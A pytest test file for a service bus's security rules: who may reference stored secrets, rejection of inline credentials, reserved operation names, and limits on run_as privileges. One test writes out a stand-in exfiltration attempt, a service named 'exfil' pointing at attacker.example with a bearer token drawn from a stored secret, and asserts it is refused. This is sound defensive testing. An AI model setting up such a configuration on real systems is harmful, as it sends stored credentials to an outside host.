"""engine.bus rules that protect secrets and rights: who may refer to secrets, run_as, inline credentials."""
from __future__ import annotations

import pytest

from engine import bus, secrets
from engine.errors import Conflict, ValidationFailed
from engine.models import Role, User, UserRole
from tests.engine.helpers import load_user
from tests.outside import OutsideSystem


@pytest.fixture
def bus_admin(db):
    """li.na with a role granting bus.admin only (not connector.admin, not superuser)."""
    with db.transaction() as s:
        role = Role(code="bus_admin", name="服务总线管理员", permissions=["bus.admin"])
        s.add(role)
        s.flush()
        s.add(UserRole(user_id=load_user(s, "li.na").id, role_id=role.id))
    return "li.na"


def rest(base_url: str, auth: dict | None = None) -> dict:
    return {"base_url": base_url, "auth": auth or {"scheme": "none"},
            "operations": {"Get": {"method": "GET", "path": "/items/{id}"}}}


def test_only_integration_admins_may_point_a_service_at_a_stored_secret(db, config, registry, bus_admin):
    with db.transaction() as s:
        secrets.put(s, config, "oa_token", "tok-oa-123456")
    with db.transaction() as s, pytest.raises(ValidationFailed) as refused:
        bus.save_service(s, registry, load_user(s, bus_admin), "exfil", "x", "rest",
                         rest("https://attacker.example", {"scheme": "bearer", "token": {"$secret": "oa_token"}}))
    assert "definition.auth" in refused.value.errors
    with db.transaction() as s:
        bus.save_service(s, registry, load_user(s, "admin"), "oa", "OA", "rest",
                         rest("https://oa.example", {"scheme": "bearer", "token": {"$secret": "oa_token"}}))
    with db.transaction() as s, pytest.raises(Conflict, match="service oa"):
        secrets.delete(s, "oa_token")


def test_credentials_must_be_secret_references(db, registry):
    with db.transaction() as s, pytest.raises(ValidationFailed) as refused:
        bus.save_service(s, registry, load_user(s, "admin"), "oa", "OA", "rest",
                         rest("https://oa.example", {"scheme": "bearer", "token": "plain-token"}))
    assert "definition.auth.token" in refused.value.errors


def test_operation_names_of_the_gateway_routes_are_reserved(db, registry):
    with db.transaction() as s, pytest.raises(ValidationFailed) as refused:
        bus.save_service(s, registry, load_user(s, "admin"), "oa", "OA", "rest", {
            "base_url": "https://oa.example", "operations": {"soap": {"method": "GET", "path": "/"}}})
    assert "definition.operations.soap" in refused.value.errors


def test_a_consumer_cannot_run_as_someone_with_more_rights_than_its_creator(db, bus_admin):
    with db.transaction() as s:
        with pytest.raises(ValidationFailed) as refused:
            bus.save_consumer(s, load_user(s, bus_admin), "x", ["a/*"], run_as="admin")
        assert "run_as" in refused.value.errors
        process_admin = s.query(Role).filter_by(code="process_admin").one()
        s.add(UserRole(user_id=load_user(s, "wang.fang").id, role_id=process_admin.id))
        s.flush()
        with pytest.raises(ValidationFailed):
            bus.save_consumer(s, load_user(s, bus_admin), "y", ["a/*"], run_as="wang.fang")
        row, key = bus.save_consumer(s, load_user(s, bus_admin), "z", ["a/*"], run_as="zhang.wei")
        assert key and s.get(User, row.run_as_id).username == "zhang.wei"


def test_the_base_url_path_is_kept(db, config, registry):
    with OutsideSystem() as outside:
        with db.transaction() as s:
            admin = load_user(s, "admin")
            bus.save_service(s, registry, admin, "items", "条目", "rest", rest(f"{outside.url}/api/v1/"))
            _row, key = bus.save_consumer(s, admin, "c", ["items/*"])
        outcome = bus.call(db, config, registry, bus.RateLimiter(), key, "items", "Get", {"id": "7"})
        assert outcome.status == 200
        assert outside.requests[0]["path"] == "/api/v1/items/7"
